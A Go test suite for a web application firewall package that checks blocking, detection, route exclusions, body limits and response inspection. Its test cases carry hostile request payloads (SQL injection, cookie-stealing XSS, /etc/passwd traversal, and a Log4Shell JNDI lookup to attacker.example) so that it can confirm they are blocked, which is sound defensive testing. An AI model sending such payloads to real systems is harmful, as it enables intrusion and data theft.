package waf

import (
	"bufio"
	"context"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/coder/websocket"

	"github.com/rampartsec/rampart/internal/fault"
)

// Compiling the CRS takes a moment; tests share one WAF per configuration.
var (
	wafMu    sync.Mutex
	wafCache = map[string]*WAF{}
)

func testWAF(t testing.TB, name string, mod func(*Config)) *WAF {
	t.Helper()
	wafMu.Lock()
	defer wafMu.Unlock()
	if w, ok := wafCache[name]; ok {
		return w
	}
	cfg := Defaults()
	if mod != nil {
		mod(&cfg)
	}
	w, err := New(cfg, nil)
	if err != nil {
		t.Fatal(err)
	}
	wafCache[name] = w
	return w
}

func blockWAF(t testing.TB) *WAF { return testWAF(t, "block", nil) }

func detectWAF(t testing.TB) *WAF {
	return testWAF(t, "detect", func(c *Config) { c.Mode = ModeDetect })
}

// recorder captures what the callbacks saw.
type recorder struct {
	mu       sync.Mutex
	blocked  []Interruption
	detected []Interruption
}

func (rc *recorder) onBlock(w http.ResponseWriter, _ *http.Request, it Interruption) {
	rc.mu.Lock()
	rc.blocked = append(rc.blocked, it)
	rc.mu.Unlock()
	w.WriteHeader(it.Status)
	_, _ = io.WriteString(w, "blocked")
}

func (rc *recorder) onDetect(_ *http.Request, it Interruption) {
	rc.mu.Lock()
	rc.detected = append(rc.detected, it)
	rc.mu.Unlock()
}

// echo is an upstream that answers with the request body it read.
var echo = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
	b, _ := io.ReadAll(r.Body)
	w.Header().Set("Content-Type", "text/plain")
	w.Header().Set("Set-Cookie", "upstream=1")
	_, _ = w.Write(b)
})

type req struct {
	method, target, ctype, body string
	header                      map[string]string
}

func (q req) do(h http.Handler) *httptest.ResponseRecorder {
	var body io.Reader = http.NoBody
	if q.body != "" {
		body = strings.NewReader(q.body)
	}
	r := httptest.NewRequest(q.method, q.target, body)
	r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0")
	r.Header.Set("Accept", "text/html,application/json")
	if q.ctype != "" {
		r.Header.Set("Content-Type", q.ctype)
	}
	for k, v := range q.header {
		r.Header.Set(k, v)
	}
	rw := httptest.NewRecorder()
	h.ServeHTTP(rw, r)
	return rw
}

func TestBlockMode(t *testing.T) {
	w := blockWAF(t)
	cases := []struct {
		name      string
		q         req
		blocked   bool
		wantMatch int
	}{
		{"clean GET", req{method: "GET", target: "/api/items?id=42&sort=name"}, false, 0},
		{"clean JSON POST", req{method: "POST", target: "/api/items", ctype: "application/json", body: `{"name":"widget","qty":3}`}, false, 0},
		{"SQL injection in query", req{method: "GET", target: "/api/items?id=1'+OR+'1'='1'--"}, true, 942100},
		{"XSS in form body", req{method: "POST", target: "/comment", ctype: "application/x-www-form-urlencoded", body: "text=%3Cscript%3Ealert(1)%3C%2Fscript%3E"}, true, 941100},
		{"XSS in JSON body", req{method: "POST", target: "/comment", ctype: "application/json", body: `{"text":"<script>alert(document.cookie)</script>"}`}, true, 941100},
		{"path traversal", req{method: "GET", target: "/files?name=../../../../etc/passwd"}, true, 930120},
		{"Log4Shell in a header", req{method: "GET", target: "/", header: map[string]string{"X-Api-Version": "${jndi:ldap://attacker.example/a}"}}, true, 944150},
		{"unparseable JSON", req{method: "POST", target: "/api", ctype: "application/json", body: `{"a":`}, true, 200002},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			rc := &recorder{}
			rw := tc.q.do(w.Handler(echo, RouteOptions{}, rc.onBlock, rc.onDetect))
			if !tc.blocked {
				if rw.Code != http.StatusOK || len(rc.blocked) != 0 {
					t.Fatalf("clean request: status %d, blocks %+v", rw.Code, rc.blocked)
				}
				if rw.Body.String() != tc.q.body {
					t.Fatalf("upstream read %q, sent %q", rw.Body.String(), tc.q.body)
				}
				return
			}
			if len(rc.blocked) != 1 {
				t.Fatalf("want one block, got %+v (status %d)", rc.blocked, rw.Code)
			}
			it := rc.blocked[0]
			if !slices.Contains(it.Matched, tc.wantMatch) && it.RuleID != tc.wantMatch {
				t.Errorf("matched %v (rule %d), want %d among them", it.Matched, it.RuleID, tc.wantMatch)
			}
			if it.Status != rw.Code || (it.Status != http.StatusForbidden && it.Status != http.StatusBadRequest) {
				t.Errorf("status %d / %d", it.Status, rw.Code)
			}
			if it.Message == "" || rw.Body.String() != "blocked" {
				t.Errorf("message %q body %q", it.Message, rw.Body.String())
			}
		})
	}
}

func TestInterruptionCarriesNoRequestData(t *testing.T) {
	w := blockWAF(t)
	rc := &recorder{}
	const marker = "zq7marker"
	// 920450 ("HTTP header is restricted by policy (%{MATCHED_VAR})") and
	// SQLi whose data would include the marker.
	q := req{method: "GET", target: "/?q=" + marker + "'+UNION+SELECT+password+FROM+users--", header: map[string]string{"Proxy": marker}}
	q.do(w.Handler(echo, RouteOptions{}, rc.onBlock, nil))
	if len(rc.blocked) != 1 {
		t.Fatalf("not blocked: %+v", rc.blocked)
	}
	if strings.Contains(rc.blocked[0].Message, marker) {
		t.Fatalf("message leaks request data: %q", rc.blocked[0].Message)
	}
	if !strings.Contains(rc.blocked[0].Message, "Anomaly Score") {
		t.Fatalf("message %q", rc.blocked[0].Message)
	}
}

func TestModesAndRouteOptions(t *testing.T) {
	attack := req{method: "GET", target: "/search?q=1'+UNION+SELECT+password+FROM+users--"}
	cases := []struct {
		name             string
		w                *WAF
		ro               RouteOptions
		blocked, detects bool
	}{
		{"block WAF", blockWAF(t), RouteOptions{}, true, false},
		{"detect WAF", detectWAF(t), RouteOptions{}, false, true},
		{"route disabled", blockWAF(t), RouteOptions{Disabled: true}, false, false},
		{"route detect on block WAF", blockWAF(t), RouteOptions{Mode: ModeDetect}, false, true},
		{"route block on detect WAF", detectWAF(t), RouteOptions{Mode: ModeBlock}, true, false},
		{"unknown route mode fails closed", detectWAF(t), RouteOptions{Mode: "bogus"}, true, false},
		{"blocking rule excluded on route", blockWAF(t), RouteOptions{ExcludeRules: []int{949110}}, false, false},
		{"unrelated rule excluded on route", blockWAF(t), RouteOptions{ExcludeRules: []int{920350}}, true, false},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			rc := &recorder{}
			rw := attack.do(tc.w.Handler(echo, tc.ro, rc.onBlock, rc.onDetect))
			if got := len(rc.blocked) == 1; got != tc.blocked {
				t.Fatalf("blocked=%v want %v (status %d)", got, tc.blocked, rw.Code)
			}
			if got := len(rc.detected) == 1; got != tc.detects {
				t.Fatalf("detected=%v want %v", got, tc.detects)
			}
			if !tc.blocked && rw.Code != http.StatusOK {
				t.Fatalf("status %d", rw.Code)
			}
		})
	}
	// Per-route exclusion lives on the transaction only: the next request on
	// a route without it (Coraza pools transactions) is blocked again.
	w := blockWAF(t)
	open := w.Handler(echo, RouteOptions{ExcludeRules: []int{949110}}, nil, nil)
	strict := w.Handler(echo, RouteOptions{}, nil, nil)
	for range 20 {
		if rw := attack.do(open); rw.Code != http.StatusOK {
			t.Fatalf("excluded route blocked: %d", rw.Code)
		}
		if rw := attack.do(strict); rw.Code != http.StatusForbidden {
			t.Fatalf("exclusion leaked to another route: %d", rw.Code)
		}
	}
}

func TestBodyLimits(t *testing.T) {
	reject := testWAF(t, "limit-reject", func(c *Config) { c.RequestBodyLimit, c.RequestBodyInMemoryLimit = 1000, 500 })
	partial := testWAF(t, "limit-partial", func(c *Config) {
		c.RequestBodyLimit, c.RequestBodyInMemoryLimit, c.BodyLimitAction = 1000, 500, BodyLimitPartial
	})
	detect := testWAF(t, "limit-detect", func(c *Config) {
		c.RequestBodyLimit, c.RequestBodyInMemoryLimit, c.Mode = 1000, 500, ModeDetect
	})
	form := func(n int) string { return "a=" + strings.Repeat("b", n-2) }
	cases := []struct {
		name    string
		w       *WAF
		body    string
		chunked bool
		status  int
	}{
		{"at the limit", reject, form(1000), false, 200},
		{"over the limit, declared", reject, form(1001), false, 413},
		{"over the limit, chunked", reject, form(5000), true, 413},
		{"partial: over the limit passes whole", partial, form(5000), false, 200},
		{"detect: over the limit passes whole", detect, form(5000), false, 200},
		{"partial: attack within the limit blocked", partial, "q=<script>alert(1)</script>&" + form(5000), false, 403},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r := httptest.NewRequest("POST", "/upload", strings.NewReader(tc.body))
			r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
			r.Header.Set("User-Agent", "test")
			r.Header.Set("Accept", "*/*")
			if tc.chunked {
				r.ContentLength = -1
				r.TransferEncoding = []string{"chunked"}
			}
			rc := &recorder{}
			rw := httptest.NewRecorder()
			tc.w.Handler(echo, RouteOptions{}, rc.onBlock, nil).ServeHTTP(rw, r)
			if rw.Code != tc.status {
				t.Fatalf("status %d, want %d (%+v)", rw.Code, tc.status, rc.blocked)
			}
			if tc.status == 200 && rw.Body.String() != tc.body {
				t.Fatalf("upstream got %d bytes, want %d", rw.Body.Len(), len(tc.body))
			}
		})
	}
}

func TestBodyReadError(t *testing.T) {
	w := blockWAF(t)
	r := httptest.NewRequest("POST", "/x", strings.NewReader(strings.Repeat("a=b&", 100)))
	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	rw := httptest.NewRecorder()
	r.Body = http.MaxBytesReader(rw, r.Body, 10)
	rc := &recorder{}
	w.Handler(echo, RouteOptions{}, rc.onBlock, nil).ServeHTTP(rw, r)
	if rw.Code != http.StatusRequestEntityTooLarge {
		t.Fatalf("status %d", rw.Code)
	}
}

func responseWAF(t testing.TB) *WAF {
	return testWAF(t, "responses", func(c *Config) { c.InspectResponses = true })
}

func TestResponseInspection(t *testing.T) {
	leak := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		w.Header().Set("Set-Cookie", "session=upstream")
		w.WriteHeader(http.StatusInternalServerError)
		_, _ = io.WriteString(w, "<b>Warning</b>: mysql_fetch_array() expects parameter 1 to be resource, boolean given in /var/www/index.php on line 12\n")
		_, _ = io.WriteString(w, "You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version")
	})
	rc := &recorder{}
	rw := req{method: "GET", target: "/page"}.do(responseWAF(t).Handler(leak, RouteOptions{}, rc.onBlock, nil))
	if len(rc.blocked) != 1 || rw.Code != http.StatusForbidden {
		t.Fatalf("leak not blocked: %d %+v", rw.Code, rc.blocked)
	}
	if rw.Header().Get("Set-Cookie") != "" || strings.Contains(rw.Body.String(), "SQL") {
		t.Fatalf("upstream response leaked: %v %q", rw.Header(), rw.Body.String())
	}
	if rc.blocked[0].Phase != 4 {
		t.Fatalf("phase %d", rc.blocked[0].Phase)
	}
	// A clean response passes byte for byte with the upstream's status.
	ok := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusCreated)
		_, _ = io.WriteString(w, `{"id":1}`)
	})
	rw = req{method: "GET", target: "/page"}.do(responseWAF(t).Handler(ok, RouteOptions{}, nil, nil))
	if rw.Code != http.StatusCreated || rw.Body.String() != `{"id":1}` {
		t.Fatalf("clean response: %d %q", rw.Code, rw.Body.String())
	}
}

// Server-sent events pass through unbuffered: the client sees the first
// event while the upstream is still holding the stream open.
func TestSSEStreamsThrough(t *testing.T) {
	release := make(chan struct{})
	sse := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/event-stream")
		_, _ = io.WriteString(w, "data: first\n\n")
		http.NewResponseController(w).Flush()
		select {
		case <-release:
		case <-r.Context().Done():
		}
		_, _ = io.WriteString(w, "data: second\n\n")
	})
	for _, accept := range []string{"text/event-stream", "*/*"} {
		t.Run(accept, func(t *testing.T) {
			srv := httptest.NewServer(responseWAF(t).Handler(sse, RouteOptions{}, nil, nil))
			defer srv.Close()
			r, _ := http.NewRequest("GET", srv.URL+"/events", nil)
			r.Header.Set("Accept", accept)
			r.Header.Set("User-Agent", "test")
			resp, err := srv.Client().Do(r)
			if err != nil {
				t.Fatal(err)
			}
			defer resp.Body.Close()
			line := make(chan string, 1)
			go func() {
				s, _ := bufio.NewReader(resp.Body).ReadString('\n')
				line <- s
			}()
			select {
			case s := <-line:
				if s != "data: first\n" {
					t.Fatalf("got %q", s)
				}
			case <-time.After(10 * time.Second):
				t.Fatal("first event was buffered")
			}
			release <- struct{}{}
		})
	}
}

func TestWebSocketThrough(t *testing.T) {
	up := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		c, err := websocket.Accept(w, r, nil)
		if err != nil {
			return
		}
		defer c.CloseNow()
		typ, msg, err := c.Read(r.Context())
		if err != nil {
			return
		}
		_ = c.Write(r.Context(), typ, append([]byte("echo:"), msg...))
	})
	srv := httptest.NewServer(responseWAF(t).Handler(up, RouteOptions{}, nil, nil))
	defer srv.Close()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	c, _, err := websocket.Dial(ctx, "ws"+strings.TrimPrefix(srv.URL, "http")+"/ws", &websocket.DialOptions{
		HTTPHeader: http.Header{"User-Agent": {"test"}, "Accept": {"*/*"}},
	})
	if err != nil {
		t.Fatal(err)
	}
	defer c.CloseNow()
	if err := c.Write(ctx, websocket.MessageText, []byte("hi")); err != nil {
		t.Fatal(err)
	}
	_, msg, err := c.Read(ctx)
	if err != nil || string(msg) != "echo:hi" {
		t.Fatalf("read %q %v", msg, err)
	}
}

func TestSkipStaticAssets(t *testing.T) {
	w := testWAF(t, "skip", func(c *Config) { c.SkipExtensions = DefaultSkipExtensions() })
	cases := []struct {
		target string
		header map[string]string
		method string
		skip   bool
	}{
		{"/static/app.css", nil, "GET", true},
		{"/static/logo.PNG", nil, "HEAD", true},
		{"/static/app.css?v='+OR+1=1--", nil, "GET", false},
		{"/static/app.css?", nil, "GET", false},
		{"/static/..%2f..%2fetc/passwd.css", nil, "GET", false},
		{"/static/../app.css", nil, "GET", false},
		{"/static//app.css", nil, "GET", false},
		{"/static/app.css", nil, "POST", false},
		{"/static/app.php", nil, "GET", false},
		{"/static.css/app", nil, "GET", false},
		{"/api/items", nil, "GET", false},
	}
	for _, tc := range cases {
		r := httptest.NewRequest(tc.method, "http://x"+tc.target, nil)
		r.RequestURI = tc.target
		if got := w.skippable(r); got != tc.skip {
			t.Errorf("%s %s: skippable=%v want %v", tc.method, tc.target, got, tc.skip)
		}
	}
	// A skipped request is not inspected (documented trade-off); a query
	// string brings inspection back.
	rc := &recorder{}
	h := w.Handler(echo, RouteOptions{}, rc.onBlock, nil)
	if rw := (req{method: "GET", target: "/static/app.css?x=<script>alert(1)</script>"}).do(h); rw.Code != http.StatusForbidden {
		t.Fatalf("query on a static path not inspected: %d", rw.Code)
	}
	if w2 := blockWAF(t); w2.skippable(httptest.NewRequest("GET", "/app.css", nil)) {
		t.Fatal("skip list must be opt-in")
	}
}

func TestInfoAndDisabled(t *testing.T) {
	info := blockWAF(t).Info()
	if !info.Enabled || info.Mode != ModeBlock || info.ParanoiaLevel != 1 || info.RulesLoaded < 500 || info.CRSVersion != "4.25.0" ||
		info.InboundThreshold != 5 || info.OutboundThreshold != 4 {
		t.Fatalf("info %+v", info)
	}
	off, err := New(Config{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if off.Info().Enabled {
		t.Fatal("disabled WAF reports enabled")
	}
	rw := req{method: "GET", target: "/?q=1'+OR+'1'='1'--"}.do(off.Handler(echo, RouteOptions{}, nil, nil))
	if rw.Code != http.StatusOK {
		t.Fatalf("disabled WAF blocked: %d", rw.Code)
	}
	var nilWAF *WAF
	if nilWAF.Info().Enabled || nilWAF.Handler(echo, RouteOptions{}, nil, nil) == nil {
		t.Fatal("nil WAF")
	}
}

func TestConfigValidation(t *testing.T) {
	cases := []struct {
		name string
		mod  func(*Config)
	}{
		{"mode", func(c *Config) { c.Mode = "log" }},
		{"paranoia 0", func(c *Config) { c.ParanoiaLevel = 0 }},
		{"paranoia 5", func(c *Config) { c.ParanoiaLevel = 5 }},
		{"threshold", func(c *Config) { c.InboundThreshold = 0 }},
		{"body limit", func(c *Config) { c.RequestBodyLimit = 0 }},
		{"in-memory above limit", func(c *Config) { c.RequestBodyInMemoryLimit = c.RequestBodyLimit + 1 }},
		{"limit action", func(c *Config) { c.BodyLimitAction = "drop" }},
		{"exclude id", func(c *Config) { c.ExcludeRules = []int{-1} }},
		{"bad directives", func(c *Config) { c.Directives = "SecRule NOPE" }},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			cfg := Defaults()
			tc.mod(&cfg)
			_, err := New(cfg, nil)
			if !fault.Is(err, fault.Invalid) {
				t.Fatalf("want an invalid-config error, got %v", err)
			}
		})
	}
	for _, ro := range []RouteOptions{{Mode: "x"}, {ExcludeRules: []int{0}}} {
		if err := ro.Validate(); !fault.Is(err, fault.Invalid) {
			t.Errorf("%+v: %v", ro, err)
		}
	}
	if err := (RouteOptions{Mode: ModeDetect, ExcludeRules: []int{942100}}).Validate(); err != nil {
		t.Error(err)
	}
}

func TestGlobalExclusion(t *testing.T) {
	w := testWAF(t, "exclude-949110", func(c *Config) { c.ExcludeRules = []int{949110} })
	rw := req{method: "GET", target: "/?q=1'+OR+'1'='1'--"}.do(w.Handler(echo, RouteOptions{}, nil, nil))
	if rw.Code != http.StatusOK {
		t.Fatalf("globally excluded blocking rule still blocks: %d", rw.Code)
	}
}

// Routes share the compiled rule set: a route costs a small handler, not a
// CRS. The numbers are reported in docs/BENCHMARKS.md.
func TestMemoryPerRoute(t *testing.T) {
	heap := func() uint64 {
		runtime.GC()
		runtime.GC()
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		return m.HeapAlloc
	}
	before := heap()
	extra, err := New(Defaults(), nil)
	if err != nil {
		t.Fatal(err)
	}
	afterCompile := heap()
	const routes = 1000
	hs := make([]http.Handler, routes)
	for i := range hs {
		hs[i] = extra.Handler(echo, RouteOptions{ExcludeRules: []int{942100 + i%50, 920350}}, nil, nil)
	}
	afterRoutes := heap()
	runtime.KeepAlive(hs)
	runtime.KeepAlive(extra)
	compile := int64(afterCompile) - int64(before)
	perRoute := (int64(afterRoutes) - int64(afterCompile)) / routes
	t.Logf("one CRS compile: %d KiB of heap; %d routes: %d bytes each", compile>>10, routes, perRoute)
	if perRoute > 1024 {
		t.Fatalf("a route costs %d bytes", perRoute)
	}
	if compile < 1<<20 {
		t.Fatalf("compile measured at %d bytes; measurement broken", compile)
	}
}

var _ = errors.New
